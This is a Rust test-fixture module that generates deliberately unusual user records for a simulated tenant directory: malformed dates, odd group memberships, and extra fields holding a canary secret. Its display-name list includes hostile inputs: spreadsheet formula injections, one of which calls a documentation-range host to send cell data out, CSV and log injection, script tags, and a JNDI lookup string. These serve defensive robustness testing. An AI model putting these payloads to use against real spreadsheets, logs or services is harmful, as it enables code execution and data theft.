//! Unusual records of real tenants: names that attack a reader of the tables, wrong dates, memberships of missing
//! groups, undocumented fields. Each kind is one [`UnusualKind`], which starts with an ordinary record and changes what
//! it is about.

use super::{DAY, PRIVILEGED, text_of, written};
use crate::record::Record;
use crate::world::{CANARY, World};
use chrono::{DateTime, SecondsFormat, TimeDelta, Utc};
use fastrand::Rng;
use serde_json::{Value, json};

/// A kind of unusual record.
#[derive(Clone, Copy)]
enum UnusualKind {
    /// A display name.
    Named(&'static str),
    /// A last login, verbatim.
    Login(&'static str),
    /// A last login 100 days ago, in a notation of [`strftime`](chrono::format::strftime), in a time zone so many hours
    /// east.
    Notation(&'static str, i64),
    /// A last login this number of seconds ago.
    Age(i64),
    /// The same for a member of a privileged group.
    PrivilegedAge(i64),
    /// An account that never logged in, created this number of seconds ago.
    NeverAge(i64),
    /// A date of creation, verbatim.
    Created(&'static str),
    /// Memberships: 1 stands for an existing group, 2 for a privileged one, other texts for themselves.
    Groups(&'static [&'static str]),
    /// A change of any other kind.
    Other(fn(&mut UnusualRecord<'_>)),
}

/// The record that is being made unusual, and what the changes need.
struct UnusualRecord<'a> {
    record: &'a mut Record,
    id: u64,
    as_of: DateTime<Utc>,
    group: u64,
    privileged: u64,
}

const NAMES: [&str; 22] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"Click\")",
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "Eve\r\nInjected,\"Row\",true\r\n",
    "Line one\nline two",
    "O'Brien, \"Pat\"",
    "Nul\u{0}Byte",
    "\u{1b}[31mRed\u{1b}[0m",
    "\u{202e}gpj.tnemucod",
    "מנהל המערכת",
    "عبد الرحمن",
    "Zu\u{308}rich \u{1f469}\u{200d}\u{1f4bb}\u{feff}",
    "<script>alert('x')</script>&amp;",
    "\"] <13>1 - - - fake [x y=\"z\"]",
    "  padded  ",
    "",
    "https://192.0.2.7/%s%n{{7*7}}${jndi:ldap://192.0.2.7/a}",
];

const LOGINS: [&str; 31] = [
    "0001-01-01T00:00:00Z",
    "1601-01-01T00:00:00Z",
    "1753-01-01T00:00:00",
    "1900-01-01 00:00:00Z",
    "1970-01-01T00:00:00Z",
    "1970-01-01T08:15:00+00:00",
    "1969-12-31T19:00:00-05:00",
    "0001-01-01T00:00:00+05:30",
    "",
    "never",
    "Never",
    "yesterday",
    "2026-13-45T99:99:99Z",
    "2025-02-29T12:00:00Z",
    "23/11/2026 02:00",
    "2026-11-23T02:00:00+99:00",
    "2026-11-23T02:00:00.Z",
    "9999-12-31T23:59:59Z",
    "2024-02-29T12:00:00Z",
    "2016-12-31T23:59:60Z",
    "1899-12-30T00:00:00",
    "1969-12-31T19:00:00",
    "1980-01-01T00:00:00",
    "1999-12-31T23:59:59Z",
    "2025-11-20",
    "2025-11-20T08:00",
    "2025-11-20 09:00+01:00",
    "2025-11-20T08:00:00.0000000",
    "/Date(1763625600000)/",
    "/Date(-62135596800000)/",
    "11/20/2026 8:00:00 AM",
];

const NOTATIONS: [(&str, i64); 11] = [
    ("%Y-%m-%dT%H:%M:%S+02:00", 2),
    ("%Y-%m-%dT%H:%M:%S-0500", -5),
    ("%Y-%m-%dT%H:%M:%S+09", 9),
    ("%Y-%m-%dT%H:%M:%S+00:00", 0),
    ("%Y-%m-%dT%H:%M:%S", 0),
    ("%Y-%m-%d %H:%M:%S", 0),
    ("%Y-%m-%d %H:%M:%SZ", 0),
    ("%Y-%m-%dT%H:%M:%S.123456789Z", 0),
    ("%Y-%m-%dT%H:%M:%S.5Z", 0),
    ("%Y-%m-%dT%H:%M:%S.000001+01:00", 1),
    ("%Y-%m-%dT%H:%M:%S.0000009", 0),
];

/// Date of creation before every last login in [`LOGINS`] that is not a sentinel.
const LONG_AGO: &str = "2010-01-01T00:00:00Z";

/// Ages of last logins around the thresholds of [`crate::Expect::usual`], to the second. The last five are in
/// the future.
const AGES: [i64; 11] =
    [90 * DAY, 90 * DAY - 1, 90 * DAY + 1, 89 * DAY, 91 * DAY, 45 * DAY, -120, -300, -301, -3 * DAY, -400 * DAY];
const PRIVILEGED_AGES: [i64; 5] = [45 * DAY, 45 * DAY - 1, 45 * DAY + 1, 44 * DAY, 90 * DAY];
const NEVER_AGES: [i64; 8] = [30 * DAY, 30 * DAY - 1, 30 * DAY + 1, 90 * DAY, 90 * DAY - 1, 0, -3 * DAY, 2000 * DAY];

const CREATED: [&str; 9] = [
    "0001-01-01T00:00:00Z",
    "",
    "last spring",
    "1970-01-01T00:00:00",
    "2026-11-31T00:00:00Z",
    "2025-06-01",
    "1999-05-05T00:00:00Z",
    "1899-12-31T09:00:00",
    "/Date(1735689600000)/",
];

const GROUPS: [&[&str]; 6] =
    [&["999983"], &["1", "999983", "999984"], &["1", "1"], &["2", "1", "2"], &["legacy-admins", "1"], &["999984", "9"]];

const OTHERS: [fn(&mut UnusualRecord<'_>); 38] = [
    |s| s.set("display_name", "Long ".repeat(800)),
    |s| s.set("display_name", Value::Null),
    |s| s.remove("display_name"),
    |s| s.set("username", format!("=1+{}", s.id)),
    |s| s.set("username", format!("line\nbreak.{}", s.id)),
    |s| s.set("username", Value::Null),
    |s| s.set("email_address", Value::Null),
    |s| s.remove("email_address"),
    |s| s.set("email_address", "  SHARED@Example.COM "),
    |s| s.set("last_login", Value::Null),
    |s| s.remove("last_login"),
    |s| s.set_both("last_login", 1_700_000_000.into(), "created_at", LONG_AGO.into()),
    |s| s.set_both("last_login", 1_763_625_600_000_u64.into(), "created_at", 1_262_304_000.into()),
    |s| s.set("last_login", 5),
    // A login up to a day before the creation of the account is accepted.
    |s| s.set_both("last_login", s.ago(10 * DAY), "created_at", s.ago(9 * DAY)),
    |s| s.set_both("last_login", s.ago(10 * DAY), "created_at", s.ago(9 * DAY - 1)),
    |s| s.set_both("last_login", s.ago(100 * DAY), "created_at", s.ago(98 * DAY)),
    |s| {
        s.add(
            json!({"password_age": 30, "password_changed": "2026-01-01", "password_hint": "", "token_ids": [CANARY]}),
        );
    },
    |s| s.set("last_login", json!({"date": "2026-01-01", "access_token": CANARY})),
    // Never logged in, and no date of creation to count from.
    |s| s.set_both("last_login", Value::Null, "created_at", Value::Null),
    |s| s.set_both("last_login", "never".into(), "created_at", "0001-01-01T00:00:00Z".into()),
    |s| s.set_both("last_login", "???".into(), "enabled", false.into()),
    |s| s.set_both("last_login", "???".into(), "username", format!("svc-odd-{}", s.id).into()),
    |s| s.remove("created_at"),
    |s| s.set("group_memberships", Value::Null),
    |s| s.remove("group_memberships"),
    |s| s.set("group_memberships", json!([])),
    // The same group by number and by text.
    |s| s.set("group_memberships", json!([s.group.to_string(), s.group])),
    |s| s.set("enabled", false),
    |s| s.set_both("enabled", false.into(), "group_memberships", json!([s.privileged, s.group])),
    |s| s.set_both("enabled", false.into(), "group_memberships", json!([999_983])),
    |s| s.set("enabled", Value::Null),
    |s| s.remove("enabled"),
    |s| s.set("account_type", Value::Null),
    |s| s.set_both("account_type", "LOCAL".into(), "last_login", written(s.as_of - TimeDelta::days(365))),
    |s| {
        s.add(json!({
            "is_admin": true, "department": "=Finance", "risk": 0.25, "tags": ["b", "a"],
            "address": {"street": "Rua do Ouro\n12", "geo": {"lon": -9, "lat": 38}},
            "password_hash": CANARY, "api_token": CANARY,
            "devices": [{"name": "laptop", "Private_Key_PEM": CANARY}, {"clientSecret": CANARY}],
        }));
    },
    |s| s.add(json!({"privateKey": CANARY, "api-key": CANARY, "Pass Phrase": CANARY, "publicKeyType": "ed25519"})),
    // Only secrets: nothing is left for `extra`.
    |s| s.add(json!({"PASSWORD_EXPIRES": CANARY, "totp_secret": CANARY, "refresh_token": [CANARY]})),
];

/// Returns all kinds of unusual records.
fn kinds() -> Vec<UnusualKind> {
    let mut kinds: Vec<UnusualKind> = NAMES.map(UnusualKind::Named).to_vec();
    kinds.extend(LOGINS.map(UnusualKind::Login));
    kinds.extend(NOTATIONS.map(|(notation, hours)| UnusualKind::Notation(notation, hours)));
    kinds.extend(AGES.map(UnusualKind::Age));
    kinds.extend(PRIVILEGED_AGES.map(UnusualKind::PrivilegedAge));
    kinds.extend(NEVER_AGES.map(UnusualKind::NeverAge));
    kinds.extend(CREATED.map(UnusualKind::Created));
    kinds.extend(GROUPS.map(UnusualKind::Groups));
    kinds.extend(OTHERS.map(UnusualKind::Other));
    kinds
}

/// Makes a small share of the people, and one group, unusual.
pub(super) fn add(world: &mut World, rng: &mut Rng, as_of: DateTime<Utc>) {
    let mut kinds = kinds();
    let people: Vec<u64> = world.users().filter(|(_, record)| is_person(record)).map(|(id, _)| id).collect();
    let share = if world.user_count() >= 200 { kinds.len().max(people.len() / 50) } else { people.len() / 4 };
    let groups: Vec<u64> = world.groups().map(|(id, _)| id).collect();
    // Too few people for every kind: a random choice of them.
    if people.len() < 200 {
        rng.shuffle(&mut kinds);
    }
    for (turn, kind) in kinds.iter().cycle().take(share).enumerate() {
        // Spread over the whole list, so that every page has some.
        let id = people[turn * people.len() / share];
        let privileged = groups[rng.usize(..PRIVILEGED)];
        let group = groups[rng.usize(PRIVILEGED..groups.len())];
        world.edit_user(id, |record| UnusualRecord { record, id, as_of, group, privileged }.apply(*kind));
    }
    let sixth = world.groups().nth(5).map(|(id, group)| (id, group.clone()));
    if let Some((id, mut group)) = sixth {
        group.insert("description".to_owned(), Value::Null);
        group.insert("policy".to_owned(), json!({"jump": ["rdp", "ssh"], "api_token": CANARY, "level": 3}));
        world.put_group(id, group);
    }
}

fn is_person(record: &Record) -> bool {
    let name = text_of(record, "username");
    !name.starts_with("svc-") && !name.starts_with("emergency-")
}

impl UnusualRecord<'_> {
    fn apply(&mut self, kind: UnusualKind) {
        self.make_ordinary();
        match kind {
            UnusualKind::Named(name) => self.set("display_name", name),
            UnusualKind::Login(text) => self.set_both("last_login", text.into(), "created_at", LONG_AGO.into()),
            UnusualKind::Notation(notation, hours) => {
                let there = self.as_of - TimeDelta::days(100) + TimeDelta::hours(hours);
                self.set("last_login", there.format(notation).to_string());
            }
            UnusualKind::Age(seconds) => self.set("last_login", self.ago(seconds)),
            UnusualKind::PrivilegedAge(seconds) => {
                let groups = json!([self.privileged, self.group]);
                self.set_both("last_login", self.ago(seconds), "group_memberships", groups);
            }
            UnusualKind::NeverAge(seconds) => {
                self.set_both("last_login", Value::Null, "created_at", self.ago(seconds));
            }
            UnusualKind::Created(text) => self.set("created_at", text),
            UnusualKind::Groups(ids) => self.set("group_memberships", self.memberships(ids)),
            UnusualKind::Other(change) => change(self),
        }
    }

    /// Gives the record ordinary values, so that only the change of its kind is unusual.
    fn make_ordinary(&mut self) {
        self.set("enabled", true);
        self.set("account_type", "SAML");
        self.set_both("last_login", self.ago(5 * DAY), "created_at", self.ago(400 * DAY));
        self.set("group_memberships", json!([self.group]));
    }

    /// Returns the instant this number of seconds ago, with the fraction of `as_of`, so that the age is exact.
    fn ago(&self, seconds: i64) -> Value {
        (self.as_of - TimeDelta::seconds(seconds)).to_rfc3339_opts(SecondsFormat::AutoSi, true).into()
    }

    fn memberships(&self, ids: &[&str]) -> Value {
        let id = |text: &&str| match *text {
            "1" => self.group.into(),
            "2" => self.privileged.into(),
            other => other.parse::<u64>().map_or_else(|_| other.into(), Value::from),
        };
        ids.iter().map(id).collect()
    }

    fn set(&mut self, key: &str, value: impl Into<Value>) {
        self.record.insert(key.to_owned(), value.into());
    }

    fn set_both(&mut self, key: &str, value: Value, other: &str, other_value: Value) {
        self.set(key, value);
        self.set(other, other_value);
    }

    fn remove(&mut self, key: &str) {
        self.record.remove(key);
    }

    fn add(&mut self, fields: Value) {
        self.record.extend(super::object(fields));
    }
}
